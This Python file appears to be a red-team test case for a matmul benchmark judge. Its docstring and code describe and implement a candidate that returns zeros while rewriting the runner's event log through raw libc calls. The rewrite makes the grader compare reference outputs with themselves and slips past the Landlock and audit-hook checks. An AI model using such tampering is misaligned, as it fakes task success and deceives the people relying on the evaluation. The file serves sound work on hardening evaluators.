"""Attack D (task matmul): forge_events - rename the candidate's output files
to the reference's in the runner's event log.

What it does: the candidate returns zeros.  On every call it finds the
runner's event log (/proc/self/cmdline names the plan, the plan's out_dir
holds events.jsonl), reads it with raw libc calls and rewrites, in place and
with the same length, every slot call's
    "cand": "tensors/sNNcK-cand.kt"   ->   "cand": "tensors//sNNcK-ref.kt"
(pwrite at offset 0; the runner's O_APPEND descriptor goes on appending
after it).  The judge then compares each reference file with itself.  The
slot events are logged after the slot's calls, so the last slots are
rewritten during the causal probe's replays, which come after every slot
(the contract forbids gemm, so a probe runs).  Nothing is written outside
runner/, so neither Landlock nor the audit hook objects.

What it exploits: the event log and the tensor files live in runner/,
which the worker (and so the candidate) may write, and the judge trusts the
file names the log gives (docs/threat-model.md, "kaudit audit").

What a correct defence must do: the semantic evidence must be out of the
candidate's reach: the judge (or a reference-side process) must name and
hold the candidate's outputs itself (a pipe or a descriptor the candidate
cannot reach, files written by another process, or at least the log's
"cand" entries checked against the names the runner was told to use and
the files' integrity covered by something the candidate cannot recompute),
so that this candidate, whose output is zeros, is not semantic PASS.
"""
import ctypes
import json
import os
import re

import torch
import torch.nn as nn

_libc = ctypes.CDLL(None, use_errno=True)
_libc.open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_int]
_libc.pread.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long]
_libc.pwrite.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_long]
_libc.pread.restype = _libc.pwrite.restype = ctypes.c_ssize_t

_CAND = re.compile(rb'"cand": "tensors/(s\d\dc\d+)-cand\.kt"')


def _events_path():
    with open("/proc/self/cmdline", "rb") as f:
        argv = f.read().split(b"\0")
    plan = next(a for a in argv if a.endswith(b".json"))
    with open(plan) as f:
        return os.path.join(json.load(f)["out_dir"], "events.jsonl").encode()


def _forge(path):
    fd = _libc.open(path, os.O_RDWR, 0)
    if fd < 0:
        return
    try:
        chunks, off = [], 0
        buf = ctypes.create_string_buffer(1 << 16)
        while True:
            n = _libc.pread(fd, buf, len(buf), off)
            if n <= 0:
                break
            chunks.append(buf.raw[:n])
            off += n
        data = b"".join(chunks)
        new = _CAND.sub(lambda m: b'"cand": "tensors//' + m.group(1) + b'-ref.kt"', data)
        if new != data and len(new) == len(data):
            _libc.pwrite(fd, new, len(new), 0)
    finally:
        _libc.close(fd)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        try:
            self._events = _events_path()
        except Exception:
            self._events = None

    def forward(self, a, b):
        if self._events:
            try:
                _forge(self._events)
            except Exception:
                pass
        return torch.zeros(a.shape[0], b.shape[1], dtype=a.dtype, device=a.device)
